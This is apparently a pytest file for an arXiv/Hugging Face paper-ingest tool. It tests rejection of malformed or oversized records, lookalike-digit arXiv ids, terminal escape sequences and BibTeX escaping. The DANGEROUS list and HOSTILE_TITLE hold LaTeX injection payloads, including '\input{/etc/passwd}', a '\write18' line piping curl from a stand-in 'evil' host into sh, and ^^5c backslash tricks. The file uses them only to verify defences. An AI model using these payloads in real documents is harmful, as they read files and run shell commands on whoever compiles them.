"""Hostile ingest input and outputs other programs interpret (issue 10, classes 6 and 8).

Class 6: values that used to pass validation and then overflow or recurse (a huge version,
counts past PostgreSQL's integer, year-1 timestamps with an offset, deep JSON, NUL) must
each be rejected with its place while every good record around them goes in, on both
engines. Class 8: arXiv ids in other scripts' digits are not ids; BibTeX carries no LaTeX
command that a LaTeX run would execute.
"""

from __future__ import annotations

import gzip
import io
import json
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path

import bibtexparser
import pytest
import sqlalchemy as sa

from paperfeed.errors import ActionError, RecordError, SourceError
from paperfeed.query import parse_query
from paperfeed.records import (
    MAX_COUNT,
    DailyRecord,
    PaperRecord,
    forbidden_text_reason,
    parse_arxiv_id,
    validate_daily,
    validate_paper,
    version_of_label,
)
from paperfeed.services.cite import LITERAL_BACKSLASH, SAFE_COMMANDS, bibtex, bibtex_value
from paperfeed.services.community import Submissions
from paperfeed.services.ingest import run_ingest
from paperfeed.sources.arxiv_api import ArxivApiSource
from paperfeed.sources.hf_daily import HfDailyApiSource, HfDailyFileSource
from paperfeed.sources.http import HttpClient, retry_after_seconds
from paperfeed.sources.jsonl import MAX_LINE_BYTES, JsonlSource, bounded_lines
from paperfeed.sources.oai import OaiSource
from paperfeed.store.schema import daily_entries, paper_links, papers
from tests.feeds import atom_feed, hf_api_entry, oai_page, oai_raw_metadata, paper
from tests.helpers import FAST_HTTP
from tests.loopback import Reply
from tests.test_cite import view

DEEP = '{"a":' * 100_000 + "1" + "}" * 100_000  # json.loads: RecursionError


def listing(n: int, **changes: object) -> str:
    """A line in the daily-listing layout, paper 2611.0000n, with fields changed."""
    fields = {
        "arxiv_id": f"2611.{n:05d}",
        "title": f"Invented paper {n}",
        "abstract": "We study it.",
        "authors": ["Ada Example"],
        "categories": ["cs.CL"],
        "listing_date": "2026-11-02",
        **changes,
    }
    return json.dumps(fields)


def kaggle(n: int, **changes: object) -> str:
    """A line in Kaggle's snapshot layout."""
    fields = {
        "id": f"2611.{n:05d}",
        "title": f"Invented paper {n}",
        "abstract": "We study it.",
        "authors": "Ada Example, Bo Sample",
        "categories": "cs.CL",
        "versions": [{"version": "v1", "created": "Mon, 2 Nov 2026 10:00:00 GMT"}],
        **changes,
    }
    return json.dumps(fields)


# Line number (1-based) -> (line, what its rejection says); the good lines are between.
BAD_PAPER_LINES = {
    2: (listing(2, arxiv_id="2611.00002v99999999999999999999"), "bad version"),
    4: (DEEP, "nested too deeply"),
    6: (listing(6, title="Null\x00byte"), "NUL"),
    8: (listing(8, authors=["Lone \ud800 surrogate"]), "surrogate"),
    10: (listing(10, listing_date="0001-01-01"), "out of range"),
    12: (listing(12, arxiv_id="٢٦١١.٠٠٠١٢"), "not an arXiv id"),  # Arabic-Indic digits
    14: (listing(14, title="t" * 2_001), "title longer"),
    16: (listing(16, comment="c" * 100_000), "comment longer"),
    18: (listing(18, categories=[f"c{i}" for i in range(1_000)]), "categories must be"),
    20: (kaggle(20, versions=[{"version": "v" + "9" * 5_000}]), "bad version label"),
    22: (
        kaggle(22, versions=[{"version": "v1", "created": "Fri, 31 Dec 9999 23:00:00 -0500"}]),
        "bad version date",
    ),
    24: (kaggle(24, versions=[{"version": "v²"}] * 1_001), "bad version"),
    26: (listing(26, arxiv_id=["2611.00026"] * 3), "not an arXiv id"),
}


def hostile_lines(bad: dict[int, tuple[str, str]], good: object) -> list[str]:
    last = max(bad) + 1
    return [bad[n][0] if n in bad else good(n) for n in range(1, last + 1)]


def stored_ids(store) -> set[str]:
    with store.engine.connect() as conn:
        return set(conn.execute(sa.select(papers.c.arxiv_id)).scalars())


def assert_rejections(stderr: str, path, bad: dict[int, tuple[str, str]]) -> None:
    rejected = dict(re.findall(rf"rejected {re.escape(str(path))}:(\d+): (.*)", stderr))
    assert sorted(map(int, rejected)) == sorted(bad)
    for line, (_, reason) in bad.items():
        assert reason in rejected[str(line)], (line, rejected[str(line)])


def ingest_hostile_file(run_cli, tmp_path, source: str, bad: dict, make) -> int:
    """Ingests a file of good records with `bad` ones among them (line: (text, reason)):
    each bad one is rejected with its line and reason, every good one goes in. Returns
    how many good ones there were."""
    path = tmp_path / "hostile.jsonl"
    lines = hostile_lines(bad, make)
    path.write_text("\n".join(lines) + "\n")
    result = run_cli("ingest", source, str(path), "--no-progress", "--show-rejected", "50")
    # Rejected records are reported, not failures: exit 0 (docs/ingest.md).
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    good = len(lines) - len(bad)
    assert f"{good} added, 0 updated, 0 unchanged, {len(bad)} rejected" in result.stdout
    assert_rejections(result.stderr, path, bad)
    return good


def test_jsonl_file_with_a_bad_record_of_each_kind_keeps_every_good_one(
    run_cli, fresh_db, tmp_path
):
    ingest_hostile_file(run_cli, tmp_path, "jsonl", BAD_PAPER_LINES, listing)
    expected = {f"2611.{n:05d}" for n in range(1, 28) if n not in BAD_PAPER_LINES}
    assert stored_ids(fresh_db) == expected


def flat(n: int, **changes: object) -> str:
    """A line of the flat Hugging Face export."""
    fields = {
        "daily_date": "2026-11-03",
        "arxiv_id": f"2611.{n:05d}",
        "title": f"Invented paper {n}",
        "authors": ["Ada Example"],
        "upvotes": 5,
        "num_comments": 1,
        "submitted_by": "alice",
        "submitted_on_daily_at": "2026-11-03T05:00:00Z",
        "github_repo": "https://github.com/x/y",
        "github_stars": 7,
        **changes,
    }
    return json.dumps(fields)


BAD_DAILY_LINES = {
    2: (flat(2, upvotes=10**30), "bad upvotes"),  # past 64 bits
    4: (flat(4, upvotes=MAX_COUNT + 1), "bad upvotes"),  # past PostgreSQL's integer
    6: (flat(6, num_comments=2**40), "bad num_comments"),
    8: (flat(8, github_stars=2**63), "bad github_stars"),
    10: (flat(10, github_stars=True), "bad github_stars"),
    12: (flat(12, submitted_on_daily_at="0001-01-01T00:00:00+05:00"), "out of range"),
    14: (flat(14, paper_published_at="9999-12-31T23:59:59-05:00"), "out of range"),
    16: (flat(16, submitted_by="ev\x00il"), "NUL"),
    18: (flat(18, organization="Org \udfff"), "surrogate"),
    20: (DEEP, "nested too deeply"),
    22: (flat(22, submitted_by="s" * 5_000), "submitted_by longer"),
    24: (flat(24, daily_date="0001-01-01"), "out of range"),
    26: ("[" * 50_000 + "]" * 50_000, "nested too deeply"),
}


def test_hf_daily_file_with_a_bad_record_of_each_kind_keeps_every_good_one(
    run_cli, fresh_db, tmp_path
):
    good = ingest_hostile_file(run_cli, tmp_path, "hf-daily", BAD_DAILY_LINES, flat)
    with fresh_db.engine.connect() as conn:
        votes = conn.execute(sa.select(sa.func.sum(daily_entries.c.imported_upvotes))).scalar()
        stars = conn.execute(sa.select(sa.func.max(paper_links.c.github_stars))).scalar()
    assert (votes, stars) == (5 * good, 7)
    assert len(stored_ids(fresh_db)) == good


def test_bounded_lines_skips_past_a_long_line_in_chunks():
    stream = io.BytesIO(b"ab\n" + b"x" * 50 + b"\n12345\n" + b"y" * 9 + b"\ncd")
    assert list(bounded_lines(stream, limit=6)) == [b"ab\n", None, b"12345\n", None, b"cd"]


@pytest.mark.parametrize("kind", ["jsonl", "hf-daily"])
def test_a_line_longer_than_the_bound_is_rejected_unread_and_the_rest_goes_in(
    sqlite_db, tmp_path, kind
):
    good = listing if kind == "jsonl" else flat
    huge = json.dumps({"title": "t" * (MAX_LINE_BYTES + 10)})
    path = tmp_path / "long.jsonl"
    path.write_text("\n".join([good(1), huge, good(3)]) + "\n")
    source = JsonlSource(path) if kind == "jsonl" else HfDailyFileSource(path)
    summary = run_ingest(sqlite_db, source, show_progress=False)
    assert (summary.added, summary.rejected) == (2, 1)
    assert summary.rejections[0].where == f"{path}:2"
    assert "line longer than" in summary.rejections[0].reason


def test_hf_answer_file_names_the_bad_entries(sqlite_db, tmp_path):
    path = tmp_path / "2026-11-03.json"
    huge_votes = hf_api_entry(paper(2), upvotes=2**64)
    old = hf_api_entry(paper(3))
    old["paper"]["publishedAt"] = "0001-01-01T00:00:00+01:00"
    nested = hf_api_entry(paper(4))
    nested["paper"]["id"] = [[[["2611.00004"]]]]
    path.write_text(json.dumps([hf_api_entry(paper(1)), huge_votes, old, nested]))
    summary = run_ingest(sqlite_db, HfDailyFileSource(path), show_progress=False)
    assert (summary.added, summary.rejected) == (1, 3)
    assert [r.where for r in summary.rejections] == [f"{path}: entry {i}" for i in (1, 2, 3)]


@pytest.mark.parametrize("name", ["0001-01-01.json", "2026-13-45.json"])
def test_hf_file_named_with_an_impossible_date_is_one_clear_error(run_cli, tmp_path, name):
    path = tmp_path / name
    path.write_text(json.dumps([hf_api_entry(paper(1))]))
    result = run_cli("ingest", "hf-daily", str(path), "--no-progress")
    assert result.exit_code == 1
    assert "the date in its name is not valid" in result.stderr
    assert "Traceback" not in result.output


def test_live_hf_api_answer_with_hostile_entries_keeps_the_good_ones(fresh_db, http_server):
    listed = hf_api_entry(paper(2))
    listed["paper"]["id"] = ["2611.00002"]  # unhashable: used to end the run
    nested = hf_api_entry(paper(3))
    nested["paper"]["id"] = {"id": [[["2611.00003"]]]}
    stars = hf_api_entry(paper(4), github="https://github.com/x/y")
    stars["paper"]["githubStars"] = 2**63
    answer = [hf_api_entry(paper(1)), listed, nested, stars, hf_api_entry(paper(5))]
    http_server.route("/api/daily_papers", lambda params: Reply(json.dumps(answer)))
    with HttpClient(FAST_HTTP) as client:
        source = HfDailyApiSource(f"{http_server.url}/api", [date(2026, 11, 3)], client)
        summary = run_ingest(fresh_db, source, show_progress=False)
    assert (summary.added, summary.rejected) == (2, 3)
    assert [r.where for r in summary.rejections] == [f"2026-11-03 entry {i}" for i in (1, 2, 3)]
    assert "bad github_stars" in summary.rejections[2].reason
    assert stored_ids(fresh_db) == {"2611.00001", "2611.00005"}


def test_atom_page_with_hostile_entries_keeps_the_good_ones(fresh_db, http_server):
    entries = [
        paper(1),
        paper(2, version=99999999999999999999),
        paper(3, published="0001-01-01T00:00:00+05:00"),
        paper(4, arxiv_id="２６１１.０００04"),  # fullwidth digits
        paper(5),
    ]
    http_server.route("/api/query", lambda params: Reply(atom_feed(entries, total=5)))
    with HttpClient(FAST_HTTP) as client:
        source = ArxivApiSource(
            f"{http_server.url}/api/query", ["cs.CL"], date(2026, 11, 1), date(2026, 11, 2), client
        )
        summary = run_ingest(fresh_db, source, show_progress=False)
    assert (summary.added, summary.rejected) == (2, 3)
    reasons = [r.reason for r in summary.rejections]
    assert "bad version" in reasons[0] and "out of range" in reasons[1]
    assert "not an arXiv id" in reasons[2]
    assert stored_ids(fresh_db) == {"2611.00001", "2611.00005"}


def test_oai_page_with_hostile_records_and_counts_keeps_the_good_ones(fresh_db, http_server):
    def record(n, versions=("Mon, 2 Nov 2026 10:00:00 GMT",), label=None):
        meta = oai_raw_metadata(paper(n), list(versions))
        if label:
            meta = meta.replace('version="v1"', f'version="{label}"')
        return f"2611.{n:05d}", meta

    page = oai_page(
        [
            record(1),
            record(2, label="v" + "9" * 5_000),
            record(3, versions=("Fri, 31 Dec 9999 23:00:00 -0500",)),
            record(4, label="v" + "9" * 30),
            record(5),
        ],
        token="",
    )
    # Counts in superscript digits: '²'.isdigit() is true, int('²') fails.
    page = page.replace('completeListSize="0"', 'completeListSize="²"')
    http_server.route("/oai", lambda params: Reply(page))
    with HttpClient(FAST_HTTP) as client:
        source = OaiSource(f"{http_server.url}/oai", "cs", None, None, "arXivRaw", client)
        summary = run_ingest(fresh_db, source, show_progress=False)
    assert (summary.added, summary.rejected) == (2, 3)
    assert [r.where for r in summary.rejections] == [
        f"oai:arXiv.org:2611.0000{n}" for n in (2, 3, 4)
    ]
    assert stored_ids(fresh_db) == {"2611.00001", "2611.00005"}


@pytest.mark.parametrize("gzipped", [False, True])
def test_an_answer_larger_than_the_bound_is_one_clear_error(http_server, gzipped):
    body = b"[" + b"0," * 50_000 + b"0]"  # 100 kB; gzipped, a few hundred bytes
    reply = (
        Reply(gzip.compress(body), headers={"Content-Encoding": "gzip"}) if gzipped else Reply(body)
    )
    http_server.route("/big", lambda params: reply)
    with HttpClient(FAST_HTTP, max_body_bytes=10_000) as client:
        with pytest.raises(SourceError, match="answer larger than 10,000 bytes"):
            client.get(f"{http_server.url}/big")
        assert len(http_server.calls("/big")) == 1  # not retried
    with HttpClient(FAST_HTTP, max_body_bytes=len(body)) as client:
        assert client.get(f"{http_server.url}/big").json()[:2] == [0, 0]


def test_an_unforeseen_exception_rejects_only_its_record_and_says_what_it_was(sqlite_db, tmp_path):
    # Author name parts that are numbers: the Kaggle parser joins them as text.
    path = tmp_path / "odd.jsonl"
    odd = kaggle(2, authors_parsed=[[1, 2, 3]])
    path.write_text("\n".join([kaggle(1), odd, kaggle(3)]) + "\n")
    summary = run_ingest(sqlite_db, JsonlSource(path), show_progress=False)
    assert (summary.added, summary.rejected) == (2, 1)
    assert summary.rejections[0].where == f"{path}:2"
    assert summary.rejections[0].reason.startswith("TypeError: ")


# --- validation, one field at a time ---


def daily(**changes: object) -> DailyRecord:
    record = DailyRecord(
        paper=PaperRecord(arxiv_id="2611.00001", title="T", abstract="", authors=[]),
        day=date(2026, 11, 3),
    )
    for name, value in changes.items():
        setattr(record, name, value)
    return record


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"upvotes": MAX_COUNT + 1}, "bad upvotes"),
        ({"upvotes": -1}, "bad upvotes"),
        ({"upvotes": 1.5}, "bad upvotes"),
        ({"num_comments": False}, "bad num_comments"),
        ({"github_stars": "42"}, "bad github_stars"),
        ({"day": date(1, 1, 1)}, "out of range"),
        ({"day": None}, "no day"),
        ({"project_page": "x" * 10_000}, "project_page longer"),
    ],
)
def test_daily_fields_are_typed_and_bounded(changes, message):
    with pytest.raises(RecordError, match=message):
        validate_daily(daily(**changes))


def test_counts_at_the_column_bound_pass():
    record = validate_daily(daily(upvotes=MAX_COUNT, github_stars=0, num_comments=None))
    assert (record.upvotes, record.github_stars, record.num_comments) == (MAX_COUNT, 0, 0)


@pytest.mark.parametrize("version", [0, 1_001, 2**70, True, "3"])
def test_versions_outside_one_to_a_thousand_are_rejected(version):
    with pytest.raises(RecordError, match="bad version"):
        validate_paper(PaperRecord("2611.00001", "T", "", [], version=version))


def test_forbidden_text_reason():
    assert forbidden_text_reason("plain café ∑") is None
    assert "NUL" in (forbidden_text_reason("a\x00b") or "")
    assert "U+D800" in (forbidden_text_reason("a\ud800") or "")


def test_version_labels_are_ascii_digits():
    assert version_of_label("v12") == 12
    assert version_of_label("v²") is None and version_of_label("v٣") is None
    assert version_of_label(None) is None
    with pytest.raises(RecordError):
        version_of_label("v" + "9" * 5_000)


def test_retry_after_ignores_digits_int_cannot_read():
    assert retry_after_seconds("²") is None
    assert retry_after_seconds("12") == 12.0


# --- class 8: arXiv ids are ASCII ---

LOOKALIKE_IDS = [
    "٢٥٠١.٠١٢٣٤",  # Arabic-Indic
    "२५०१.०१२३४",  # Devanagari
    "２５０１.０１２３４",  # fullwidth
    "2501.0123४",
    "2501.01234v٢",
    "hep-th/٩٩٠١٠٠١",
    "https://arxiv.org/abs/٢٥٠١.٠١٢٣٤",
    "arXiv:𝟐𝟓𝟎𝟏.𝟎𝟏𝟐𝟑𝟒",  # mathematical bold digits
    "\u212aep-th/9901001",  # the Kelvin sign matches [a-z] under re.I without re.ASCII
    "hep-\u017fh/9901001",  # the long s, likewise
]


@pytest.mark.parametrize("text", LOOKALIKE_IDS)
def test_ids_with_non_ascii_digits_or_letters_are_not_ids_anywhere(text):
    assert parse_arxiv_id(text) is None
    assert parse_query(text).arxiv_id is None
    with pytest.raises(RecordError, match="not an arXiv id"):
        validate_paper(PaperRecord(text, "T", "", []))


def test_submitting_a_lookalike_id_is_refused(sqlite_db):
    def never_fetch(arxiv_id: str) -> PaperRecord:
        raise AssertionError(f"fetched {arxiv_id!r}")

    submissions = Submissions(sqlite_db, never_fetch, max_age_days=7)
    with pytest.raises(ActionError, match="not an arXiv id"):
        submissions.submit(1, "https://arxiv.org/abs/٢٥٠١.٠١٢٣٤")


# --- class 8: the operator's terminal ---

ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\x9b31m"  # retitle, clear, bidi override, C1 CSI
XML_ESCAPES = "\u202e\x9b31m"  # the ones XML can carry


def test_cli_output_shows_control_characters_from_data_as_escapes(run_cli, http_server, tmp_path):
    path = tmp_path / "escapes.jsonl"
    path.write_text(
        listing(1, title=f"Sparse{ESCAPES} attention", categories=[f"cs.CL{ESCAPES}"]) + "\n"
    )
    # An Atom entry whose id carries them is rejected, and the rejection names the id.
    entries = [paper(2, arxiv_id=f"2611.00002{XML_ESCAPES}")]
    http_server.route("/api/query", lambda params: Reply(atom_feed(entries, total=1)))
    arxiv = ["ingest", "arxiv", "-c", "cs.CL", "--since", "2026-11-01", "--until", "2026-11-02"]
    results = [
        run_cli("ingest", "jsonl", str(path), "--no-progress"),
        run_cli(*arxiv, "--base-url", f"{http_server.url}/api/query", "--no-progress"),
        run_cli("stats"),
        run_cli("search", "--mode", "keyword", "sparse"),
    ]
    for result in results:
        assert result.exit_code == 0, result.output
        assert not set(result.output) & set("\x1b\x07\x9b\u202e"), result.output
    _, rejected, stats, found = results
    assert "rejected http://arxiv.org/abs/2611.00002\\u202e\\x9b31m" in rejected.stderr
    assert "Sparse\\x1b]0;owned\\x07\\x1b[2J\\u202e\\x9b31m attention" in found.output
    assert "cs.CL\\x1b]0;owned" in stats.output


# --- class 8: BibTeX ---

DANGEROUS = [
    r"\input{/etc/passwd}",
    r"\include{secrets}",
    r"\immediate\write18{curl evil | sh}",
    r"\openout1=x.tex \write1{\def}",
    r"\def\title{owned}",
    r"\catcode`\!=0 !input{x}",
    r"\csname input\endcsname{x}",
    r"\expandafter\input\string{x}",
    r"\label{x}\newlabel{y}",
    r"\href{run:calc.exe}{click}",
    r"^^5cinput{/etc/passwd}",  # TeX reads ^^5c as a backslash
    r"\^^5cinput{x}",
    r"^^^^005cinput{x}",
    "\\",
    r"\\input{x}",  # a line break, then the text "input"
]


def commands_in(text: str) -> list[str]:
    """The control words TeX would read in `text` (after ^^ conversion, which must not
    happen at all)."""
    assert "^^" not in text
    return re.findall(r"\\([A-Za-z]+)", re.sub(r"\\\\", " ", text))


@pytest.mark.parametrize("title", DANGEROUS)
def test_bibtex_carries_no_command_outside_the_allow_list(title):
    value = bibtex_value(title)
    assert set(commands_in(value)) <= SAFE_COMMANDS | {"ensuremath", "backslash"}
    entry = bibtexparser.parse_string(bibtex(view(title=title, authors=[title])))
    assert not entry.failed_blocks and len(entry.entries) == 1


def test_bibtex_keeps_math_accents_and_fonts_readable():
    title = r"$\mathcal{O}(n \log n)$ \textbf{fast} sorting by Bal\'azs \& Erd\H{o}s"
    assert bibtex_value(title) == title
    assert bibtex_value(r"\input{x}") == LITERAL_BACKSLASH + "input{x}"
    assert bibtex_value(r"\\input") == r"\\input"


def test_bibtex_escapes_the_category_it_copies():
    text = bibtex(view(primary_category="cs.CL}, note = {pwned"))
    entry = bibtexparser.parse_string(text).entries[0]
    assert "note" not in entry.fields_dict


LATEX, BIBTEX = shutil.which("latex"), shutil.which("bibtex")
HOSTILE_TITLE = (
    r"Hostile \input{canary} ^^5cinput{canary} \immediate\write18{touch pwned-shell} "
    r"\immediate\openout5=pwned-openout.tex \immediate\write5{x}\immediate\closeout5 "
    r"$\alpha$ Bal\'azs"
)
HOSTILE_AUTHOR = r"Eve \csname input\endcsname{canary} Mallory"


def compile_bibliography(folder: Path, bib: str) -> str:
    """latex, bibtex, latex on a document citing `bib`, with shell escape on (the most a
    reader's setup might allow); the second run's log."""
    folder.mkdir()
    (folder / "refs.bib").write_text(bib)
    (folder / "canary.tex").write_text("\\immediate\\write16{CANARY-INPUT-RAN}\n")
    (folder / "doc.tex").write_text(
        "\\documentclass{article}\\begin{document}\\nocite{*}"
        "\\bibliographystyle{plain}\\bibliography{refs}\\end{document}\n"
    )
    latex = [LATEX, "-interaction=nonstopmode", "-shell-escape", "doc.tex"]
    for command in (latex, [BIBTEX, "doc"], latex):
        subprocess.run(command, cwd=folder, capture_output=True, timeout=120, check=False)
    return (folder / "doc.log").read_text(errors="replace")


@pytest.mark.skipif(
    not (LATEX and BIBTEX), reason="needs latex and bibtex (apt-get install texlive-latex-base)"
)
def test_a_latex_run_on_our_bibtex_executes_nothing_from_titles_or_authors(tmp_path):
    # The same text copied verbatim into a .bib runs all of it: the check can fail.
    raw = tmp_path / "verbatim"
    entry = f"@misc{{evil, title = {{{HOSTILE_TITLE}}}, author = {{{HOSTILE_AUTHOR}}}}}\n"
    assert "CANARY-INPUT-RAN" in compile_bibliography(raw, entry)
    assert (raw / "pwned-shell").exists() and (raw / "pwned-openout.tex").exists()

    ours = tmp_path / "ours"
    log = compile_bibliography(ours, bibtex(view(title=HOSTILE_TITLE, authors=[HOSTILE_AUTHOR])))
    assert "CANARY-INPUT-RAN" not in log
    assert not (ours / "pwned-shell").exists() and not (ours / "pwned-openout.tex").exists()
    assert (ours / "doc.dvi").exists()  # it still typesets, commands printed as text
    assert "Hostile" in (ours / "doc.bbl").read_text()
